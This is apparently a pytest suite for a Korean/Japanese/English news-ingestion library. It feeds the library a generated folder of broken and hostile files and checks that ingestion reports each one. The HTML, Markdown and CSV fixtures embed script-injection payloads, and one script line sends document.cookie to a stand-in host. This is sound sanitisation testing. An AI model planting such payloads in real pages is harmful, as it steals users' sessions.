"""Hostile inputs: a folder of every kind of bad file a user may drop in, generated at test time.

Invariants: no crash; every input is accounted for (inputs = ingested + duplicate + skipped);
each skip names the problem and a fix; the good rows of partly broken files are ingested;
active HTML content (scripts, iframes, event handlers) never reaches an article's text.
"""

from __future__ import annotations

import io
import json
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ainews import get_articles, ingest
from ainews.cli import main as cli_main
from ainews.corpus import read_processed

# Marker strings inside active content; none may appear in any text column.
SCRIPT_MARKERS = ("EVIL_SCRIPT", "EVIL_IFRAME", "EVIL_ONERROR", "EVIL_STYLE", "EVIL_MD_SCRIPT",
                  "EVIL_ESCAPED", "EVIL_CSV")
TEXT_COLUMNS = ("title", "subtitle", "byline", "outlet", "body", "date_text", "url")

KO_CP949 = (
    "인공지능 반도체 스타트업, 해외 투자 유치에 속도\n\n"
    "국내 인공지능 반도체 스타트업들이 올해 들어 해외 벤처캐피털로부터 잇따라 투자를 유치하고 있다.\n\n"
    "업계에 따르면 한 신경망처리장치 설계 기업은 지난달 일본과 싱가포르 투자사로부터 대규모 자금을 확보했다.\n\n"
    "똠방각하라는 별명으로 불리는 창업자는 햏살스러운 농담과 달리 양산 일정에는 엄격하다고 동료들은 전한다.\n"
)
KO_EUCKR = (
    "정부, 공공 데이터 개방으로 인공지능 학습 지원\n\n"
    "과학기술정보통신부는 공공기관이 보유한 데이터를 인공지능 학습용으로 개방하는 계획을 발표했다.\n\n"
    "계획에는 의료와 교통, 기상 분야의 데이터 수백 종을 단계적으로 공개하는 내용이 담겼다.\n\n"
    "정부는 개인정보 보호를 위해 가명 처리 기준을 마련하고 전문 기관의 검증을 거치도록 할 방침이다.\n"
)
KO_MOJIBAKE = (
    "지방 대학, 인공지능 융합 학과 신설 잇따라\n\n"
    "지역 대학들이 학생 모집난을 타개하기 위해 인공지능 융합 학과를 잇따라 신설하고 있다.\n\n"
    "대학들은 지역 기업과 손잡고 현장 실습 과정을 운영해 졸업생의 취업을 돕겠다는 계획이다.\n\n"
    "교육 전문가들은 교수 인력 확보가 가장 큰 과제라고 지적했다.\n"
)
KO_PATH = (
    "자율주행 셔틀, 도심 시범 운행 시작\n\n"
    "자율주행 셔틀버스가 이번 주부터 도심 순환 노선에서 시범 운행을 시작했다.\n\n"
    "운영사는 인공지능이 보행자와 신호를 인식해 속도를 조절하며 안전요원이 함께 탑승한다고 밝혔다.\n\n"
    "시는 시범 운행 결과를 바탕으로 노선을 확대할지 결정할 예정이다.\n"
)
EN_MOJIBAKE = (
    "Chipmakers’ AI race reshapes Asia’s supply chains\n\n"
    "Memory makers in Korea and Japan are racing to expand capacity for high-bandwidth memory — "
    "the chips that feed AI accelerators — as orders from cloud companies keep rising.\n\n"
    "“Demand is running well ahead of what we can build,” one executive said, adding that new lines "
    "would not open before next year.\n\n"
    "Analysts expect the shortage to last until the new factories in both countries reach full output.\n"
)
JA_ONLY = (
    "生成AIの開発競争、日本企業も投資を拡大\n\n"
    "国内の大手電機メーカーは、生成人工知能の研究開発に今後三年間で数千億円を投じると発表した。\n\n"
    "同社は日本語に特化した大規模言語モデルを開発し、製造現場や行政での活用を目指すとしている。\n\n"
    "専門家は、計算資源の確保と人材育成が日本の競争力を左右すると指摘している。\n"
)
BOILERPLATE_ONLY = (
    "본문 바로가기\nText Size\n카카오톡 공유\n네이버 블로그\nView original image\n"
    "© The Asia Business Daily. All rights reserved.\nⓒ 머니S 무단 전재 및 재배포 금지\n"
)
HTML_PAGE = """<!DOCTYPE html><html><head><title>AI chips pact signed | Example News</title>
<script>document.write('EVIL_SCRIPT in head')</script><style>body {content: "EVIL_STYLE"}</style></head>
<body><article><h1>AI chips pact signed</h1>
<p>Korea and Japan signed a pact on Tuesday to cooperate on artificial intelligence chips,
covering research funding, shared testing facilities and joint training for engineers.</p>
<script>alert('EVIL_SCRIPT in body')</script>
<iframe src="javascript:alert(1)">EVIL_IFRAME fallback text</iframe>
<p>Officials said the agreement would be reviewed after three years.<img src="x" onerror="alert('EVIL_ONERROR')"></p>
<p onclick="alert('EVIL_ONERROR')">The two governments plan a first joint call for proposals next spring, with
universities and companies from both countries eligible to apply for grants.</p>
</article></body></html>"""
MD_SCRIPT = """---
title: Robots learn to sort parcels
publisher: Example Daily
published_at: 2025-12-26T09:00:00+09:00
---
Logistics companies are deploying robots that learn to sort parcels by watching human workers.
<script type="text/javascript">
  fetch('https://example.invalid/?c=' + document.cookie); // EVIL_MD_SCRIPT
</script>
The companies say the robots now handle a third of all parcels at their largest hubs.
&lt;script&gt;alert("EVIL_ESCAPED")&lt;/script&gt;
<img src=x onerror=alert('EVIL_ONERROR')>
Unions have asked for retraining programmes for the workers whose jobs change.
"""
BROKEN_FRONT_MATTER = """---
title: Seoul opens AI hub: startups move in
publisher:\tSeoul Times
author: [Kim
published_at: 2025-12-27
---
Seoul opened a new hub for artificial intelligence startups on Friday, offering cheap office space
and shared computing power to young companies working on language and vision models.

The city said forty companies had already signed leases and that a second building would open next year.
"""


def _png() -> bytes:
    return (b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256)) * 20)


def _xlsx_bytes() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["제목", "본문", "일자", "언론사"])
    for i in range(40):
        ws.append([f"엑셀 기사 {i}", f"인공지능 관련 엑셀 기사 본문 {i}입니다. " * 20, "2025-12-26", "예시일보"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _junk_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "this is not a workbook")
        zf.writestr("data/blob.bin", os.urandom(2048))
    return buf.getvalue()


def _write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))


def build_hostile_corpus(root: Path, seed_texts: dict[str, str], *, unreadable: bool = True) -> dict[str, tuple]:
    """Write the hostile folder; returns ``file -> (expected status, reason fragment or None)``."""
    seeds = list(seed_texts.values())
    expect: dict[str, tuple] = {}

    def add(name, data, status, why=None):
        _write(root / name, data)
        expect[name] = (status, why)

    add("empty.txt", b"", "skipped", "empty")
    add("whitespace.txt", " \n\t\n\u3000\n   \r\n", "skipped", "no article text")
    add("image.txt", _png(), "skipped", "binary")
    nul = seeds[0].replace("\n\n", "\n\x00\n", 3).replace(" ", " \x00", 5)
    add("nul bytes.txt", nul, "ingested")
    add("cp949.txt", KO_CP949.encode("cp949"), "ingested")
    add("euc-kr.txt", KO_EUCKR.encode("euc-kr"), "ingested")
    add("utf16.txt", seeds[1].encode("utf-16"), "ingested")  # Python writes the BOM
    add("mojibake-ko.txt", KO_MOJIBAKE.encode("utf-8").decode("latin-1").encode("utf-8"), "ingested")
    add("mojibake-en.txt", EN_MOJIBAKE.encode("utf-8").decode("latin-1").encode("utf-8"), "ingested")
    # One line of 50 MB (over the 20 MB limit) and one of ~5 MB (under it).
    add("huge.txt", b"AI " * (50 * 2**20 // 3), "skipped", "over the 20 MB limit")
    words = " ".join(f"w{i % 50000}x{i // 50000}" for i in range(600_000))
    add("long line.txt", f"A very long single-line article. {words}.", "ingested")
    add("boilerplate.txt", BOILERPLATE_ONLY, "skipped", "no article text left")
    add("page.html", HTML_PAGE, "ingested")
    add("script.md", MD_SCRIPT, "ingested")
    add("junk.xlsx", _junk_zip(), "skipped", "not a valid .xlsx")
    add("truncated.xlsx", _xlsx_bytes()[:3000], "skipped", "not a valid .xlsx")
    csv_text = (
        "title,body,date,outlet,extra_col\n"
        '"Good row one","Seoul city launched an AI help desk for small shops on Monday.",2025-12-26,Seoul Daily,x\n'
        '"Missing columns","Busan port tests AI cranes to cut waiting times for ships."\n'
        '"Too many cells","Too many",2025-12-26,Outlet,x,y,z\n'
        '"No body",,2025-12-26,Outlet,x\n'
        '"Script in cell","Daegu opens AI school. <script>alert(\'EVIL_CSV\')</script> Classes start in March.",'
        "2025-12-27,Daegu News,\n"
    )
    add("table.csv", csv_text, "ingested")
    lines = [json.dumps({"title": f"JSONL story {i}", "body": f"Story number {i} about AI policy in Japan and "
                         f"Korea, with details that differ: {'abc'[i % 3] * (i + 5)}."}) for i in range(3)]
    lines.insert(2, '{"title": "broken", "body": "unterminated')
    add("lines.jsonl", "\n".join(lines) + "\n", "ingested")
    add("broken front matter.md", BROKEN_FRONT_MATTER, "ingested")
    add("copy-a.txt", seeds[2], "ingested")
    add("copy-b (1).txt", seeds[2], "duplicate", "duplicate of copy-a.txt")
    add("japanese.txt", JA_ONLY, "ingested")
    add("notes.docx", b"PK\x03\x04 not really", "skipped", "unknown file type")
    add("한국 기사 폴더/AI 셔틀 기사 사본 1.txt", KO_PATH, "ingested")
    (root / "loop").mkdir()
    _write(root / "loop" / "inner.txt", seeds[3])
    expect["loop/inner.txt"] = ("ingested", None)
    os.symlink("..", root / "loop" / "back")
    if unreadable:
        add("locked.txt", seeds[4], "skipped", "permission denied")
        os.chmod(root / "locked.txt", 0)
    return expect


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, seed_texts):
    root = tmp_path_factory.mktemp("hostile")
    expect = build_hostile_corpus(root, seed_texts, unreadable=os.geteuid() != 0)
    articles, report = ingest(root, progress=False)
    yield root, expect, articles, report
    if (root / "locked.txt").exists():
        os.chmod(root / "locked.txt", 0o644)


def _files(report: pd.DataFrame) -> pd.DataFrame:
    return report[report["level"] == "file"].set_index("source")


# A reason names the problem, then (after ';' or ':') what the user can do about it.
_FIX = re.compile(r"\b(rename|remove|re-save|re-export|export|split|raise|check|chmod|fix|put|add|point|"
                  r"quote|write|open|delete|fill|keep|save|convert)\b", re.I)


def _actionable(reason: str) -> bool:
    return len(reason) > 25 and bool(_FIX.search(reason))


def test_every_input_accounted_for(hostile):
    root, expect, articles, report = hostile
    files = _files(report)
    assert (files["n_inputs"] == files["n_ingested"] + files["n_duplicate"] + files["n_skipped"]).all()
    assert files["n_ingested"].sum() + files["n_duplicate"].sum() == len(articles)
    assert files["n_duplicate"].sum() == (articles["dup_of"] != "").sum()
    assert articles["doc_id"].is_unique
    # every file written is in the report (the loop's second pass is reported as a folder skip)
    for name in expect:
        assert name in files.index, name
    assert any(s.startswith("loop/back") for s in files.index)


def test_expected_outcome_per_file(hostile):
    _, expect, _, report = hostile
    files = _files(report)
    for name, (status, why) in expect.items():
        row = files.loc[name]
        assert row["status"] == status, (name, row["reason"])
        if why:
            assert why in row["reason"], (name, row["reason"])


def test_skips_say_what_to_do(hostile):
    _, _, _, report = hostile
    skipped = report[report["status"] == "skipped"]
    assert len(skipped) >= 10
    for src, reason in skipped[["source", "reason"]].itertuples(index=False):
        assert _actionable(reason), (src, reason)


def test_good_rows_of_broken_tables_are_read(hostile):
    _, _, articles, report = hostile
    rows = report[report["level"] == "row"].set_index("source")
    csv_rows = articles[articles["source"].str.startswith("table.csv#")]
    assert sorted(csv_rows["title"]) == ["Good row one", "Missing columns", "Script in cell"]
    assert rows.loc["table.csv#row=4", "status"] == "skipped"  # more cells than the header
    assert rows.loc["table.csv#row=5", "status"] == "skipped"  # no body
    jsonl = articles[articles["source"].str.startswith("lines.jsonl#")]
    assert sorted(jsonl["title"]) == ["JSONL story 0", "JSONL story 1", "JSONL story 2"]
    assert "not valid JSON" in rows.loc["lines.jsonl#line=3", "reason"]
    files = _files(report)
    assert (files.loc["table.csv", ["n_inputs", "n_ingested", "n_skipped"]] == [5, 3, 2]).all()
    assert (files.loc["lines.jsonl", ["n_inputs", "n_ingested", "n_skipped"]] == [4, 3, 1]).all()


@pytest.mark.parametrize("name,expected", [
    ("cp949.txt", KO_CP949), ("euc-kr.txt", KO_EUCKR), ("mojibake-ko.txt", KO_MOJIBAKE),
    ("mojibake-en.txt", EN_MOJIBAKE), ("한국 기사 폴더/AI 셔틀 기사 사본 1.txt", KO_PATH), ("japanese.txt", JA_ONLY),
])
def test_encodings_decoded_to_the_original_text(hostile, name, expected):
    row = hostile[2].set_index("source").loc[name]
    title, *paragraphs = [p for p in expected.split("\n\n")]
    assert row["title"] == title.strip()
    assert row["body"] == "\n\n".join(p.strip() for p in paragraphs)


@pytest.mark.parametrize("name,lang", [("cp949.txt", "ko"), ("japanese.txt", "ja"), ("mojibake-en.txt", "en"),
                                       ("utf16.txt", "en"), ("nul bytes.txt", "en")])
def test_language(hostile, name, lang):
    assert hostile[2].set_index("source").loc[name, "lang"] == lang


def test_nul_bytes_removed(hostile):
    articles = hostile[2]
    assert not articles["body"].str.contains("\x00").any()
    assert articles.set_index("source").loc["nul bytes.txt", "n_chars"] > 500


def test_long_single_line_is_one_paragraph(hostile):
    row = hostile[2].set_index("source").loc["long line.txt"]
    assert row["n_chars"] > 4_000_000 and "\n" not in row["body"]


def test_no_active_content_in_text(hostile):
    articles = hostile[2]
    for col in TEXT_COLUMNS:
        text = "\n".join(articles[col].astype(str))
        for marker in SCRIPT_MARKERS:
            assert marker not in text, (col, marker)
        assert not re.search(r"<\s*(script|iframe|style)\b|<[^>]*\bon[a-z]+\s*=", text, re.I), col
    by_src = articles.set_index("source")
    assert "pact on Tuesday" in by_src.loc["page.html", "body"]
    md = by_src.loc["script.md", "body"]
    assert "handle a third of all parcels" in md and "Unions have asked" in md
    assert "Daegu opens AI school." in by_src.loc["table.csv#row=6", "body"]
    dropped = [why for _, why in by_src.loc["script.md", "dropped"]]
    assert any("script" in why for why in dropped)  # removed content stays accounted for


def test_broken_front_matter_read_leniently(hostile):
    _, _, articles, report = hostile
    row = articles.set_index("source").loc["broken front matter.md"]
    assert row["title"] == "Seoul opens AI hub: startups move in"
    assert row["published"] == pd.Timestamp("2025-12-27")
    assert "not valid YAML" in _files(report).loc["broken front matter.md", "reason"]


def test_unreadable_file_simulated_when_root(tmp_path, seed_texts, monkeypatch):
    """As root, chmod 000 does not stop reads: simulate the refusal so the path is still tested."""
    _write(tmp_path / "ok.txt", seed_texts[sorted(seed_texts)[0]])
    _write(tmp_path / "locked.txt", seed_texts[sorted(seed_texts)[1]])
    real = Path.read_bytes

    def refuse(self):
        if self.name == "locked.txt":
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", refuse)
    articles, report = ingest(tmp_path)
    row = _files(report).loc["locked.txt"]
    assert row["status"] == "skipped" and "chmod" in row["reason"]
    assert list(articles["source"]) == ["ok.txt"]


def test_cli_and_getter(hostile, tmp_path, monkeypatch, capsys):
    root, _, articles, report = hostile
    out = tmp_path / "out"
    assert cli_main(["ingest", str(root), "--out", str(out), "-q"]) == 0
    err = capsys.readouterr().err
    assert "inputs skipped" in err
    saved = read_processed(out)
    pd.testing.assert_frame_equal(saved.drop(columns=["dropped", "captions", "notes"]),
                                  articles.drop(columns=["dropped", "captions", "notes"]), check_dtype=False)
    monkeypatch.setenv("AINEWS_PROCESSED", str(tmp_path / "processed"))
    good = get_articles(root)
    assert len(good) == (articles["dup_of"] == "").sum()
    assert set(good["doc_id"]) == set(articles.loc[articles["dup_of"] == "", "doc_id"])


def test_cli_fails_when_nothing_readable(tmp_path, capsys):
    _write(tmp_path / "empty.txt", b"")
    _write(tmp_path / "image.txt", _png())
    assert cli_main(["ingest", str(tmp_path), "--out", str(tmp_path / "out"), "-q"]) == 1


def test_report_notebooks_run_on_the_good_articles(hostile, tmp_path, monkeypatch):
    """Every chapter notebook executes on the hostile folder (as `make book AINEWS_DATA=...` would)."""
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    root = hostile[0]
    notebooks = sorted((Path(__file__).resolve().parents[2] / "notebooks").glob("*.ipynb"))
    assert notebooks
    monkeypatch.setenv("AINEWS_DATA", str(root))
    monkeypatch.setenv("AINEWS_PROCESSED", str(tmp_path / "processed"))
    src = str(Path(__file__).resolve().parents[2] / "src")
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(filter(None, [src, os.environ.get("PYTHONPATH")])))
    monkeypatch.setenv("MPLBACKEND", "Agg")
    for path in notebooks:
        nb = nbformat.read(path, as_version=4)
        nbclient.NotebookClient(nb, timeout=600, kernel_name="python3",
                                resources={"metadata": {"path": str(path.parent)}}).execute()
    assert list((tmp_path / "processed").rglob("articles.parquet"))  # the notebooks read the hostile folder
